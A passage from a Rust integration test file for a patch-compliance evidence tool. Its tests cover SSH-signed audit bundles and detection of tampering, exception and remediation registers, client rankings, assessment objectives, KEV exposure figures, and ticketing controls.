        signature.starts_with("-----BEGIN SSH SIGNATURE-----"),
        "{signature}"
    );
    let allowed = allowed_signers(
        dir.path(),
        "allowed_signers",
        &key,
        "evidence@msp.example namespaces=\"govpack-evidence\"",
    );

    // The auditor's check, with OpenSSH alone.
    let openssh = |bundle: &Path| {
        std::process::Command::new("ssh-keygen")
            .args(["-Y", "verify", "-f"])
            .arg(&allowed)
            .args(["-I", "evidence@msp.example", "-n", "govpack-evidence", "-s"])
            .arg(bundle.join("manifest.sha256.sig"))
            .stdin(std::fs::File::open(bundle.join("manifest.sha256")).unwrap())
            .output()
            .unwrap()
    };
    let checked = openssh(&bundle);
    assert!(
        checked.status.success(),
        "{}",
        String::from_utf8_lossy(&checked.stderr)
    );
    let verify = govpack(&[
        "verify",
        "--allowed-signers",
        allowed.to_str().unwrap(),
        bundle.to_str().unwrap(),
    ]);
    assert_eq!(
        verify.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&verify.stderr)
    );
    assert!(
        String::from_utf8_lossy(&verify.stdout).contains("signed by evidence@msp.example"),
        "{}",
        String::from_utf8_lossy(&verify.stdout)
    );

    // A key the auditor was not given proves nothing.
    let stranger = ssh_keygen(dir.path(), "stranger", &["-t", "ed25519", "-N", ""]);
    let strangers = allowed_signers(dir.path(), "strangers", &stranger, "evidence@msp.example");
    let verify = govpack(&[
        "verify",
        "--allowed-signers",
        strangers.to_str().unwrap(),
        bundle.to_str().unwrap(),
    ]);
    assert_eq!(verify.status.code(), Some(1));
    assert!(
        String::from_utf8_lossy(&verify.stderr).contains("is not in"),
        "{}",
        String::from_utf8_lossy(&verify.stderr)
    );
    // Nor does the MSP's key where it is trusted for other signatures only, or no longer.
    for (name, options, why) in [
        (
            "files_only",
            "namespaces=\"file\"",
            "does not allow the namespace govpack-evidence",
        ),
        ("retired", "valid-before=20260101Z", "is not valid now"),
    ] {
        let limited = allowed_signers(dir.path(), name, &key, &format!("evidence@msp.example {options}"));
        let verify = govpack(&[
            "verify",
            "--allowed-signers",
            limited.to_str().unwrap(),
            bundle.to_str().unwrap(),
        ]);
        assert_eq!(verify.status.code(), Some(1), "{name}");
        assert!(
            String::from_utf8_lossy(&verify.stderr).contains(why),
            "{}",
            String::from_utf8_lossy(&verify.stderr)
        );
    }

    // An exception removed and both hash files rebuilt: the hashes agree, the seal does not.
    let edited = dir.path().join("edited");
    std::fs::create_dir_all(edited.join("controls")).unwrap();
    for entry in std::fs::read_dir(&bundle)
        .unwrap()
        .chain(std::fs::read_dir(bundle.join("controls")).unwrap())
    {
        let path = entry.unwrap().path();
        if path.is_file() {
            let relative = path.strip_prefix(&bundle).unwrap();
            std::fs::copy(&path, edited.join(relative)).unwrap();
        }
    }
    let exceptions = edited.join("controls/patch-compliance-exceptions.csv");
    let csv = std::fs::read_to_string(&exceptions).unwrap();
    assert!(csv.lines().count() > 2, "{csv}");
    let without_first: Vec<&str> = csv
        .lines()
        .enumerate()
        .filter(|(i, _)| *i != 1)
        .map(|(_, l)| l)
        .collect();
    std::fs::write(&exceptions, without_first.join("\n") + "\n").unwrap();
    rebuild_manifests(&edited);
    let problems = reports::bundle::verify(&edited).unwrap();
    assert_eq!(problems.len(), 2, "{problems:?}");
    assert!(
        problems[0].contains("proof-brief.pdf does not quote the digest"),
        "{problems:?}"
    );
    assert!(
        problems[1].contains("the manifest was changed after it was signed"),
        "{problems:?}"
    );
    assert!(!openssh(&edited).status.success());

    // Without its signature, an auditor holding the MSP's key still refuses it.
    std::fs::remove_file(edited.join("manifest.sha256.sig")).unwrap();
    let verify = govpack(&[
        "verify",
        "--allowed-signers",
        allowed.to_str().unwrap(),
        edited.to_str().unwrap(),
    ]);
    assert_eq!(verify.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&verify.stderr).contains("the bundle is not signed"));
}

#[test]
fn a_signing_key_that_is_not_a_private_unencrypted_ed25519_key_is_a_config_error() {
    let dir = TempDir::new().unwrap();
    sample_lake(dir.path());
    let keys = [
        ssh_keygen(dir.path(), "with_passphrase", &["-t", "ed25519", "-N", "secret"]),
        ssh_keygen(dir.path(), "ecdsa", &["-t", "ecdsa", "-N", ""]),
        ssh_keygen(dir.path(), "readable", &["-t", "ed25519", "-N", ""]),
        dir.path().join("readable.pub"),
    ];
    let mut keys = keys.to_vec();
    let mut reasons = vec!["passphrase", "ecdsa", "chmod 600", "not an OpenSSH private key"];
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(&keys[2], std::fs::Permissions::from_mode(0o644)).unwrap();
        std::fs::set_permissions(&keys[3], std::fs::Permissions::from_mode(0o600)).unwrap();
        // A pipe named by mistake would block the monthly close until someone wrote to it.
        let fifo = dir.path().join("fifo_key");
        assert!(
            std::process::Command::new("mkfifo")
                .args(["-m", "600"])
                .arg(&fifo)
                .status()
                .unwrap()
                .success()
        );
        keys.push(fifo);
        reasons.push("not a regular file");
    }
    for (key, why) in keys.iter().zip(reasons) {
        std::fs::write(
            dir.path().join("govpack.toml"),
            format!("[evidence]\nsigning_key = {:?}\n", key.to_str().unwrap()),
        )
        .unwrap();
        let out = govpack_in(dir.path(), &["report", "--period", "2026-10", "--out", "packs"]);
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{stderr}");
        assert!(
            stderr.contains("signing_key") && stderr.contains(why),
            "{why}: {stderr}"
        );
        assert!(!dir.path().join("packs/evidence-portfolio-2026-10").exists());
    }
}

#[test]
fn a_tenants_run_json_lists_the_files_that_brought_its_rows_and_no_other_clients_files() {
    let dir = TempDir::new().unwrap();
    let lake = sample_lake(dir.path());
    let header = "snapshot_date,tenant_id,device_id,hostname,device_class,role,os_name,policy_tier,ring,track,\
                  patch_policy,excluded,exclusion_reason,last_seen_utc\n";
    // One export of another client only, and one whose rows were all refused (no such tenant).
    let other = dir.path().join("devices-other-client.csv");
    std::fs::write(
        &other,
        format!("{header}2026-10-30,29683517,x-1,X-PC1,workstation,,Windows 11,,,,manual,false,,2026-10-30T01:00:00Z\n"),
    )
    .unwrap();
    let refused = dir.path().join("devices-nobody.csv");
    std::fs::write(
        &refused,
        format!("{header}2026-10-30,99999999,y-1,Y-PC1,workstation,,Windows 11,,,,manual,false,,2026-10-30T01:00:00Z\n"),
    )
    .unwrap();
    ingest::ingest(&Config::default(), &lake, &[other.clone(), refused.clone()]).unwrap();
    let digest = |p: &Path| govpack::files::sha256_hex(&std::fs::read(p).unwrap());
    let shared = digest(&Path::new(env!("CARGO_MANIFEST_DIR")).join("sample_data/devices.csv"));
    let listed = |scope: &str| -> (Vec<String>, serde_json::Value) {
        let tenant = (scope != "portfolio").then_some(scope);
        let session = reports::session(&lake, tenant).unwrap();
        let out = dir.path().join(format!("packs-{scope}"));
        std::fs::create_dir_all(&out).unwrap();
        let bundle =
            reports::bundle::write(&session, october(), scope, &out, None, &reports::Brand::default())
                .unwrap();
        let run: serde_json::Value =
            serde_json::from_str(&std::fs::read_to_string(bundle.join("run.json")).unwrap()).unwrap();
        let digests = run["inputs"]
            .as_array()
            .unwrap()
            .iter()
            .map(|i| i["sha256"].as_str().unwrap().to_string())
            .collect();
        (digests, run)
    };
    let (own, run) = listed("29683500");
    assert!(own.contains(&shared), "the shared export holds its rows");
    assert!(
        !own.contains(&digest(&other)),
        "another client's export is not its input"
    );
    assert!(!own.contains(&digest(&refused)));
    // The reference its exposure figures come from is every client's input.
    let catalog =
        Path::new(env!("CARGO_MANIFEST_DIR")).join("sample_data/known_exploited_vulnerabilities.json");
    assert!(own.contains(&digest(&catalog)), "{run}");
    assert_eq!(run["inputs_of_no_tenant"]["files"], 1, "{run}");
    let (others, _) = listed("29683517");
    assert!(others.contains(&digest(&other)) && others.contains(&shared));
    let (all, run) = listed("portfolio");
    assert!(all.contains(&digest(&other)) && all.contains(&digest(&refused)));
    assert!(run.get("inputs_of_no_tenant").is_none());
}

fn bundle_csv(bundle: &Path, name: &str) -> Vec<Vec<String>> {
    let mut reader = csv::Reader::from_path(bundle.join("controls").join(name)).unwrap();
    reader
        .records()
        .map(|r| r.unwrap().iter().map(str::to_string).collect())
        .collect()
}

#[test]
fn the_bundle_holds_the_exception_register_in_force_and_the_remediation_actions_of_the_period() {
    let dir = TempDir::new().unwrap();
    // d1 and d2 in use, d3 excluded; October 2026, as of the 31st.
    let data = alpha_exports(
        dir.path(),
        "2026-10-15,a,d1,PC1,workstation,2026-10-15T01:00:00Z\n\
         2026-10-31,a,d1,PC1,workstation,2026-10-31T01:00:00Z\n\
         2026-10-31,a,d2,PC2,workstation,2026-10-31T01:00:00Z\n",
    );
    let devices = std::fs::read_to_string(data.join("devices.csv")).unwrap();
    std::fs::write(
        data.join("devices.csv"),
        devices
            .replacen("last_seen_utc\n", "last_seen_utc,excluded\n", 1)
            .replace("Z\n", "Z,false\n")
            + "2026-10-31,a,d3,PC3,workstation,2026-10-31T01:00:00Z,true\n",
    )
    .unwrap();
    std::fs::write(
        data.join("patch_status.csv"),
        "snapshot_date,tenant_id,device_id,patch_id,classification,severity,release_date,approval,state,installed_utc\n\
         2026-10-15,a,d1,KB1,security,critical,2026-10-08,approved,installed,2026-10-12T03:00:00Z\n\
         2026-10-31,a,d1,KB1,security,critical,2026-10-08,approved,installed,2026-10-12T03:00:00Z\n\
         2026-10-31,a,d1,KB0,security,critical,2026-09-08,approved,installed,2026-09-20T03:00:00Z\n\
         2026-10-31,a,d1,KB2,feature_pack,low,2026-10-08,approved,installed,2026-10-20T03:00:00Z\n\
         2026-10-31,a,d1,KB3,security,important,2026-10-08,pending_review,installed,2026-10-20T03:00:00Z\n\
         2026-10-31,a,d2,KB4,security,important,2026-10-30,approved,installed,2026-10-29T23:00:00Z\n\
         2026-10-31,a,d3,KB1,security,critical,2026-10-08,approved,installed,2026-10-13T03:00:00Z\n",
    )
    .unwrap();
    std::fs::write(
        data.join("exceptions.csv"),
        "tenant_id,device_id,patch_id,reason,approved_by,approved_utc,expires_utc\n\
         a,d2,KB9,vendor hold,M. Chen,2026-10-01T00:00:00Z,2026-12-01T00:00:00Z\n\
         a,d1,KB8,pilot broke,M. Chen,2026-09-01T00:00:00Z,2026-10-20T00:00:00Z\n\
         a,d1,KB7,old,M. Chen,2026-08-01T00:00:00Z,2026-09-30T00:00:00Z\n\
         a,d1,KB6,next month,M. Chen,2026-11-02T00:00:00Z,\n\
         a,,KB5,client signed off,Client IT,2026-07-01T00:00:00Z,\n",
    )
    .unwrap();
    let (_lake, bundle) = october_bundle(dir.path(), data);

    // In force at some time in October: KB9 (active), KB8 (expired on the 20th), KB5 (every device,
    // no expiry); KB7 expired before October, KB6 was approved after it.
    let register: Vec<String> = bundle_csv(&bundle, "exceptions-register.csv")
        .iter()
        .map(|r| format!("{} {} {} {} {}", r[0], r[2], r[4], r[5], r[9]))
        .collect();
    assert_eq!(
        register,
        [
            "Alpha PC1 KB8 pilot broke expired",
            "Alpha PC2 KB9 vendor hold active",
            "Alpha every device KB5 client signed off active",
        ]
    );
    // Installed in October, required (security/critical classes, approved), on a device in use:
    // KB1 on PC1 once (seen in two snapshots), 4 days after release; KB4 on PC2 installed before
    // its release date counts 0 days. Not KB0 (September), KB2 (not required), KB3 (not approved),
    // nor PC3 (excluded).
    let actions: Vec<String> = bundle_csv(&bundle, "remediation-actions.csv")
        .iter()
        .map(|r| format!("{} {} {} {}", r[2], r[4], r[8], r[9]))
        .collect();
    assert_eq!(
        actions,
        ["PC1 KB1 2026-10-12 03:00:00 4", "PC2 KB4 2026-10-29 23:00:00 0"]
    );
    let manifest = std::fs::read_to_string(bundle.join("manifest.sha256")).unwrap();
    assert!(manifest.contains("  controls/exceptions-register.csv\n"));
    assert!(manifest.contains("  controls/remediation-actions.csv\n"));
    let run: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(bundle.join("run.json")).unwrap()).unwrap();
    assert_eq!(run["registers"]["controls/remediation-actions.csv"], 2);
}

#[test]
fn the_portfolio_lists_clients_worst_first_the_brief_the_worst_25_and_the_workbook_all() {
    let dir = TempDir::new().unwrap();
    let data = dir.path().join("data");
    std::fs::create_dir_all(&data).unwrap();
    // 30 clients, client i with 10 devices of which i are missing a critical patch: Client 10
    // and up have every device non-compliant; Client 00 is the best.
    let mut tenants = String::from("tenant_id,tenant_name\n");
    let mut devices = String::from("snapshot_date,tenant_id,device_id,hostname,device_class,last_seen_utc\n");
    let mut patches = String::from(
        "snapshot_date,tenant_id,device_id,patch_id,classification,severity,release_date,approval,state\n",
    );
    for t in 0..30 {
        tenants.push_str(&format!("t{t:02},Client {t:02}\n"));
        for d in 0..10 {
            devices.push_str(&format!(
                "2026-10-31,t{t:02},d{d},PC{t:02}-{d},workstation,2026-10-31T01:00:00Z\n"
            ));
            let state = if d < t { "missing" } else { "installed" };
            patches.push_str(&format!(
                "2026-10-31,t{t:02},d{d},KB1,security,critical,2026-08-01,approved,{state}\n"
            ));
        }
    }
    std::fs::write(data.join("tenants.csv"), tenants).unwrap();
    std::fs::write(data.join("devices.csv"), devices).unwrap();
    std::fs::write(data.join("patch_status.csv"), patches).unwrap();
    let lake = Lake::open(&dir.path().join("lake")).unwrap();
    ingest::ingest(&Config::default(), &lake, &[data]).unwrap();
    kpi::compute(&Config::default(), &lake, Period::month(2026, 10).unwrap()).unwrap();

    let mut book = workbook(&lake, None, &dir.path().join("book.xlsx"));
    let clients = cells(&mut book, "Clients");
    assert_eq!(clients.len(), 31, "a header and every client");
    assert_eq!(
        clients[0][..5].iter().map(|c| c.to_string()).collect::<Vec<_>>(),
        [
            "client",
            "tenant_id",
            "devices",
            "patch_compliance_rate",
            "overdue_devices"
        ]
    );
    // Worst first: compliance 0% for clients 10-29 (most overdue devices first, then by name),
    // then 10%, 20%... up to Client 00's 100%.
    assert_eq!(clients[1][0], Data::String("Client 10".into()));
    assert_eq!(clients[1][3], Data::Float(0.0));
    assert_eq!(clients[21][0], Data::String("Client 09".into()));
    assert_eq!(clients[21][3], Data::Float(0.1));
    assert_eq!(clients[21][4], Data::Float(9.0));
    assert_eq!(clients[30][0], Data::String("Client 00".into()));
    assert_eq!(clients[30][9], Data::String("met".into()), "100% is met");

    let session = reports::session(&lake, None).unwrap();
    let path = dir.path().join("brief.pdf");
    reports::proof_brief::write(
        &session,
        october(),
        "portfolio",
        None,
        &reports::Brand::default(),
        &path,
    )
    .unwrap();
    let pdf = lopdf::Document::load(&path).unwrap();
    let pages: Vec<u32> = pdf.get_pages().keys().copied().collect();
    let text: String = pdf
        .extract_text(&pages)
        .unwrap()
        .split_whitespace()
        .collect::<Vec<_>>()
        .join(" ");
    assert!(
        text.contains("5 more (all 30) are on the Clients sheet"),
        "{text}"
    );
    assert!(text.contains("Client 10") && text.contains("Client 05"), "{text}");
    assert!(
        !text.contains("Client 04"),
        "the 26th client is in the workbook only: {text}"
    );
    assert!(text.contains("This is the first period computed"), "{text}");
}

#[test]
fn page_one_and_the_first_sheet_summarise_the_period_against_the_previous_one() {
    let dir = TempDir::new().unwrap();
    let lake = sample_lake(dir.path());
    let session = reports::session(&lake, None).unwrap();
    let path = dir.path().join("brief.pdf");
    reports::proof_brief::write(
        &session,
        october(),
        "portfolio",
        None,
        &reports::Brand::default(),
        &path,
    )
    .unwrap();
    let pdf = lopdf::Document::load(&path).unwrap();
    let page_one: String = pdf
        .extract_text(&[1])
        .unwrap()
        .split_whitespace()
        .collect::<Vec<_>>()
        .join(" ");
    // Devices compliant: 44 of 52 in October, 48 of 52 in August (the baseline); the default
    // target is the baseline +10%, capped at 100%: judged against those. September's 47 of 52
    // stands beside it, with the change since, as its own column.
    for expected in [
        "Summary",
        // The sample's summary-only client, said before any figure.
        "Not measured for Cedar Valley Family Clinic: no RMM per-patch status export.",
        // A rate over fewer than 100 carries its counts.
        "Patch compliance (devices) 84.6% (44 of 52) 92.3% 100.0% Not improving 90.4%",
        "-5.8 pts, worse",
        "What moved since 2026-09",
        "Open failure episodes: 1 to 3, worse",
    ] {
        assert!(
            page_one.contains(expected),
            "`{expected}` not on page 1: {page_one}"
        );
    }
    // The summary runs on to page 2 with what needs action and the controls.
    let summary_pages: String = pdf
        .extract_text(&[1, 2])
        .unwrap()
        .split_whitespace()
        .collect::<Vec<_>>()
        .join(" ");
    for expected in [
        "What needs action",
        "Controls with exceptions, or not tested or judged",
        "C5 Timely flaw remediation: 8 exception(s) in a population of 52",
    ] {
        assert!(
            summary_pages.contains(expected),
            "`{expected}` not in the summary: {summary_pages}"
        );
    }

    let mut book = workbook(&lake, None, &dir.path().join("book.xlsx"));
    assert_eq!(book.sheet_names()[0], "Summary");
    let summary = cells(&mut book, "Summary");
    let row = |item: &str| {
        summary
            .iter()
            .find(|r| r[1] == Data::String(item.into()))
            .unwrap_or_else(|| panic!("no {item} row: {summary:?}"))
            .clone()
    };
    let compliance = row("Patch compliance (devices)");
    assert_eq!(compliance[0], Data::String("Headline".into()));
    assert_eq!(
        compliance[4..6],
        [Data::Float(44.0 / 52.0), Data::Float(47.0 / 52.0)]
    );
    assert_eq!(
        compliance[7..10],
        [
            Data::Float(48.0 / 52.0),
            Data::Float(1.0),
            Data::String("Not improving".into())
        ]
    );
    assert_eq!(compliance[6], Data::String("\u{2193} -5.8 pts, worse".into()));
    // Devices with an overdue patch: the period's compliance_devices, counted independently.
    let overdue = |month: &str| -> f64 {
        session
            .query_row(
                &format!(
                    "select count(*) from compliance_devices
                     where period_start = date '2026-{month}-01' and overdue_count > 0 and not excluded"
                ),
                [],
                |r| r.get::<_, i64>(0),
            )
            .unwrap() as f64
    };
    let devices = row("Devices with an overdue patch");
    assert_eq!(
        devices[4..6],
        [Data::Float(overdue("10")), Data::Float(overdue("09"))]
    );
    // Judged against its count in the baseline month of instance compliance, August.
    assert_eq!(devices[7], Data::Float(overdue("08")));
    assert_eq!(devices[9], Data::String("Not improving".into()));
    let episodes = row("Open failure episodes");
    assert_eq!(
        (&episodes[0], &episodes[4], &episodes[5], &episodes[9]),
        (
            &Data::String("Moved".into()),
            &Data::Float(3.0),
            &Data::Float(1.0),
            &Data::String("Worse".into())
        )
    );
}

#[test]
fn the_assessment_objectives_of_3_14_1_show_the_time_frames_in_force_and_what_missed_them() {
    let dir = TempDir::new().unwrap();
    let data = alpha_exports(
        dir.path(),
        "2026-10-31,a,d1,PC1,workstation,2026-10-31T01:00:00Z\n\
         2026-10-31,a,d2,PC2,workstation,2026-10-31T01:00:00Z\n\
         2026-10-31,a,d3,PC3,workstation,2026-10-31T01:00:00Z\n",
    );
    std::fs::write(
        data.join("patch_status.csv"),
        "snapshot_date,tenant_id,device_id,patch_id,classification,severity,release_date,approval,state\n\
         2026-10-31,a,d1,KB1,security,critical,2026-10-08,approved,failed\n\
         2026-10-31,a,d2,KB1,security,critical,2026-10-08,approved,failed\n\
         2026-10-31,a,d3,KB1,security,critical,2026-10-08,approved,failed\n",
    )
    .unwrap();
    // Three episodes still open on 31 October: PC1's and PC2's started more than 72 hours
    // before the period's end, PC3's 36 hours before it (not yet due a ticket).
    std::fs::write(
        data.join("patch_attempts.csv"),
        "attempt_utc,tenant_id,device_id,patch_id,result,error_code\n\
         2026-10-20T02:00:00Z,a,d1,KB1,failure,0x80070643\n\
         2026-10-25T02:00:00Z,a,d2,KB1,failure,0x80070643\n\
         2026-10-31T12:00:00Z,a,d3,KB1,failure,0x80070643\n",
    )
    .unwrap();
    // PC2's failure was reported: a remediation ticket for the device after it started.
    std::fs::write(
        data.join("tickets.csv"),
        "ticket_id,tenant_id,ticket_type,status,created_utc,device_id\n\
         t1,a,remediation,in_progress,2026-10-25T10:00:00Z,d2\n",
    )
    .unwrap();
    let lake = Lake::open(&dir.path().join("lake")).unwrap();
    ingest::ingest(&Config::default(), &lake, &[data]).unwrap();
    kpi::compute(&Config::default(), &lake, Period::month(2026, 10).unwrap()).unwrap();
    let mut book = workbook(&lake, None, &dir.path().join("book.xlsx"));
    let objectives: Vec<Vec<String>> = cells(&mut book, "Assessment objectives")
        .iter()
        .map(|r| r.iter().map(|c| c.to_string()).collect())
        .collect();
    let ids: Vec<&str> = objectives[1..].iter().map(|r| r[0].as_str()).collect();
    assert_eq!(
        ids,
        [
            "3.14.1[a]",
            "3.14.1[b]",
            "3.14.1[c]",
            "3.14.1[d]",
            "3.14.1[e]",
            "3.14.1[f]"
        ]
    );
    let (a, b, c, d, e, f) = (
        &objectives[1],
        &objectives[2],
        &objectives[3],
        &objectives[4],
        &objectives[5],
        &objectives[6],
    );
    // The time frames are the settings in force (the defaults here).
    assert!(
        a[2].contains("more than 7 days") && a[2].contains("stop for 8 days"),
        "{a:?}"
    );
    assert_eq!(a[4], "specified");
    assert!(
        c[2].contains("open more than 72 hours, due priority 1: 24 h, 2: 72 h, 3: 120 h"),
        "{c:?}"
    );
    assert!(
        c[2].contains("tenant_patch_compliance (patch_compliance_rate per tenant below 0.9)"),
        "{c:?}"
    );
    assert!(e[2].contains("every tier: critical 14 days"), "{e:?}");
    assert!(
        c[2].starts_with("Every failed deployment gets a remediation or incident ticket within 24 hours"),
        "{c:?}"
    );
    // Nothing stale. Not reported: PC1's and PC3's failures had no ticket within 24 hours (C8:
    // PC3's window ends after the period's, and the spec counts it), and PC1's episode is still
    // open without one after 72 hours. Three overdue instances on three devices.
    assert_eq!(b[4], "met: 0 of 3 device(s) not seen within 7 days");
    assert_eq!(
        d[4],
        "not met: 2 of 3 failed deployment(s) without a ticket within 24 hours; \
         1 of 2 failure episode(s) open more than 72 hours without a ticket"
    );
    assert_eq!(
        f[4],
        "not met: 3 overdue required patch instance(s) on 3 device(s); 0 of 3 device(s) compliant"
    );
    let session = reports::session(&lake, None).unwrap();
    let bundle = reports::bundle::write(
        &session,
        october(),
        "portfolio",
        dir.path(),
        None,
        &reports::Brand::default(),
    )
    .unwrap();
    let unreported = bundle_csv(&bundle, "unreported-flaws.csv");
    assert_eq!(unreported.len(), 1);
    assert_eq!(unreported[0][..5], ["PC1", "Alpha", "a", "d1", "KB1"]);
    let brief = lopdf::Document::load(bundle.join("proof-brief.pdf")).unwrap();
    let pages: Vec<u32> = brief.get_pages().keys().copied().collect();
    let text = brief.extract_text(&pages).unwrap();
    for id in ids {
        assert!(text.contains(id), "{id} not in the brief");
    }
}

#[test]
fn the_brief_and_workbook_show_kev_exposure_by_client_or_say_which_file_to_ingest() {
    let dir = TempDir::new().unwrap();
    let lake = sample_lake_of(dir.path(), &["csv"]);
    let brief_text = |lake: &Lake, name: &str| {
        let session = reports::session(lake, None).unwrap();
        let path = dir.path().join(name);
        reports::proof_brief::write(
            &session,
            october(),
            "portfolio",
            None,
            &reports::Brand::default(),
            &path,
        )
        .unwrap();
        let pdf = lopdf::Document::load(&path).unwrap();
        let pages: Vec<u32> = pdf.get_pages().keys().copied().collect();
        pdf.extract_text(&pages)
            .unwrap()
            .split_whitespace()
            .collect::<Vec<_>>()
            .join(" ")
    };
    // Without the sample's KEV catalog: unknown, not zero.
    let text = brief_text(&lake, "without.pdf");
    assert!(
        text.contains(
            "unknown here, not zero: no client has the exports this figure needs (CISA KEV catalog \
             (known_exploited_vulnerabilities.json, --source cisa-kev-json)"
        ),
        "{text}"
    );
    // With the catalog and October's CVRF document (tests/fixtures/vulnerability): KB5044707 and
    // KB5044348 fix CVE-2026-41572 (deadline 4 November); 4 devices of two clients miss them.
    let fixtures = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/vulnerability");
    ingest::ingest(
        &Config::default(),
        &lake,
        &[
            fixtures.join("known_exploited_vulnerabilities.json"),
            fixtures.join("msrc-cvrf-2026-Oct.json"),
        ],
    )
    .unwrap();
    kpi::compute(&Config::default(), &lake, Period::month(2026, 10).unwrap()).unwrap();
    let text = brief_text(&lake, "with.pdf");
    for expected in [
        "Vulnerability exposure (CISA Known Exploited Vulnerabilities)",
        "Harbor Freight Logistics 2 0 2",
        "Northwind Dental Group 2 0 2",
        // Each CVE's own ransomware flag: only CVE-2026-41573's is Known.
        "CVE-2026-41572 2026-11-04 4 CVE-2026-41573 2026-11-04 1 known",
    ] {
        assert!(text.contains(expected), "`{expected}` not in the brief: {text}");
    }
    let mut book = workbook(&lake, None, &dir.path().join("book.xlsx"));
    let kev = cells(&mut book, "KEV exposure");
    assert_eq!(kev.len(), 5, "a header and the 4 KEV instances: {kev:?}");
    assert_eq!(kev[0][0], Data::String("hostname".into()));
}

#[test]
fn control_c8_finds_the_failed_deployments_without_a_ticket_in_time() {
    let dir = TempDir::new().unwrap();
    let data = alpha_workstations(dir.path(), 7);
    std::fs::write(
        data.join("patch_attempts.csv"),
        "attempt_utc,tenant_id,device_id,patch_id,result,error_code\n\
         2026-10-10T02:00:00Z,a,d1,KB1,failure,0x80070643\n\
         2026-10-12T02:00:00Z,a,d2,KB1,failure,0x80070643\n\
         2026-10-14T02:00:00Z,a,d3,KB2,failure,0x80070643\n\
         2026-10-15T02:00:00Z,a,d4,KB1,failure,0x80070643\n\
         2026-09-28T02:00:00Z,a,d5,KB1,failure,0x80070643\n\
         2026-10-20T02:00:00Z,a,d6,KB1,failure,0x80070643\n\
         2026-10-20T02:00:00Z,a,d7,KB1,failure,0x80070643\n",
    )
    .unwrap();
    // d1: a remediation ticket naming the patch 18 h later. d2: an incident 30 h later (late).
    // d3: a ticket for another patch. d4: a service request (not remediation or incident).
    // d6: a ticket at the very start; d7: at exactly 24 h. d5's episode started in September.
    std::fs::write(
        data.join("tickets.csv"),
        "ticket_id,tenant_id,ticket_type,status,created_utc,device_id,patch_id\n\
         t1,a,remediation,complete,2026-10-10T20:00:00Z,d1,KB1\n\
         t2,a,incident,complete,2026-10-13T08:00:00Z,d2,\n\
         t3,a,remediation,complete,2026-10-14T03:00:00Z,d3,KB9\n\
         t4,a,service_request,complete,2026-10-15T03:00:00Z,d4,\n\
         t6,a,remediation,new,2026-10-20T02:00:00Z,d6,\n\
         t7,a,incident,new,2026-10-21T02:00:00Z,d7,KB1\n",
    )
    .unwrap();
    let (lake, bundle) = october_bundle(dir.path(), data);
    assert_eq!(
        control_rows(&bundle, "failed-deployment-ticket", 3),
        (
            strings(&["d1", "d2", "d3", "d4", "d6", "d7"]),
            strings(&["d2", "d3", "d4"])
        )
    );
    assert_eq!(
        register_result(&lake, "C8"),
        (6.0, 3.0, "exceptions_found".into())
    );
}

fn strings(items: &[&str]) -> Vec<String> {
    items.iter().map(|s| s.to_string()).collect()
}

/// Column `column` of a control test's population and exceptions in the bundle's controls/.
fn control_rows(bundle: &Path, test: &str, column: usize) -> (Vec<String>, Vec<String>) {
    let column_of = |part: &str| -> Vec<String> {
        bundle_csv(bundle, &format!("{test}-{part}.csv"))
            .iter()
            .map(|r| r[column].clone())
            .collect()
    };
    (column_of("population"), column_of("exceptions"))
}

/// A control's population, exceptions and result as the workbook's control register shows them.
fn register_result(lake: &Lake, control: &str) -> (f64, f64, String) {
    let dir = TempDir::new().unwrap();
    let mut book = workbook(lake, None, &dir.path().join("book.xlsx"));
    let row = cells(&mut book, "Control register")
        .into_iter()
        .find(|r| r[0] == Data::String(control.into()))
        .unwrap();
    match (&row[7], &row[8], &row[9]) {
        (Data::Float(population), Data::Float(exceptions), Data::String(result)) => {
            (*population, *exceptions, result.clone())
        }
        other => panic!("{control}: {other:?}"),
    }
}

#[test]
fn control_c9_finds_the_retries_made_before_a_ticket_recorded_the_root_cause() {
    let dir = TempDir::new().unwrap();
    let data = alpha_workstations(dir.path(), 6);
    // d1 KB1: two episodes (10th, retried on the 11th; 20th, retried on the 21st). d2 and d3: one
    // each. d4: started in September, retried on 2 October. d5 KB2: retried on the 21st. d6: its
    // retry falls in November, and KB3 was never retried.
    std::fs::write(
        data.join("patch_attempts.csv"),
        "attempt_utc,tenant_id,device_id,patch_id,result,error_code\n\
         2026-10-10T02:00:00Z,a,d1,KB1,failure,0x80070643\n\
         2026-10-11T02:00:00Z,a,d1,KB1,failure,0x80070643\n\
         2026-10-13T02:00:00Z,a,d1,KB1,success,\n\
         2026-10-20T02:00:00Z,a,d1,KB1,failure,0x80070070\n\
         2026-10-21T02:00:00Z,a,d1,KB1,success,\n\
         2026-10-10T02:00:00Z,a,d2,KB1,failure,0x80070643\n\
         2026-10-12T02:00:00Z,a,d2,KB1,success,\n\
         2026-10-10T02:00:00Z,a,d3,KB1,failure,0x80070643\n\
         2026-10-11T02:00:00Z,a,d3,KB1,success,\n\
         2026-09-29T02:00:00Z,a,d4,KB1,failure,0x80070643\n\
         2026-10-02T02:00:00Z,a,d4,KB1,success,\n\
         2026-10-20T02:00:00Z,a,d5,KB2,failure,0x80070643\n\
         2026-10-21T02:00:00Z,a,d5,KB2,success,\n\
         2026-10-30T02:00:00Z,a,d6,KB1,failure,0x80070643\n\
         2026-11-02T02:00:00Z,a,d6,KB1,success,\n\
         2026-10-15T02:00:00Z,a,d6,KB3,failure,0x80070643\n",
    )
    .unwrap();
    // t1 records d1's root cause before its first retry (but long before its second episode).
    // d2's ticket has no root cause; d3's comes after the retry; d4's names another patch; d5's
    // names no patch and is created at the very moment of the retry.
    std::fs::write(
        data.join("tickets.csv"),
        "ticket_id,tenant_id,ticket_type,status,created_utc,device_id,patch_id,root_cause\n\
         t1,a,remediation,complete,2026-10-10T05:00:00Z,d1,KB1,Component store corruption\n\
         t2,a,remediation,complete,2026-10-10T05:00:00Z,d2,KB1,\n\
         t3,a,remediation,complete,2026-10-11T05:00:00Z,d3,KB1,Disk full\n\
         t4,a,remediation,complete,2026-09-29T10:00:00Z,d4,KB9,Disk full\n\
         t5,a,incident,complete,2026-10-21T02:00:00Z,d5,,Proxy blocked Windows Update\n",
    )
    .unwrap();
    let (lake, bundle) = october_bundle(dir.path(), data);
    // Ordered by retry time: d4 (2nd), d1 and d3 (11th), d2 (12th), d1 and d5 (21st).
